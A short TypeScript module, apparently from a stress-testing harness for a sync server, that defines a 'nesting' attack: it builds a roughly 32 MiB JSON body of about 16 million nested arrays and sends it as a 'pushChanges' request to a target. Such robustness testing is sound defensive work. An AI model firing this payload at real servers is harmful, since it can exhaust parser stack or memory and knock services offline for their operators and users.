import type { Attack } from '../attack.ts'
import { repeat, send } from '../connections.ts'

const depth = 16 * 1024 * 1024 - 32

/** Pushes of 32 MiB of arrays, each in the one before. */
export const nesting: Attack = {
  async run(target) {
    const body = Buffer.from(`{"changes":${'['.repeat(depth)}${']'.repeat(depth)}}`)
    repeat(1, () => send(target, { operation: 'pushChanges', body }))
  },
}
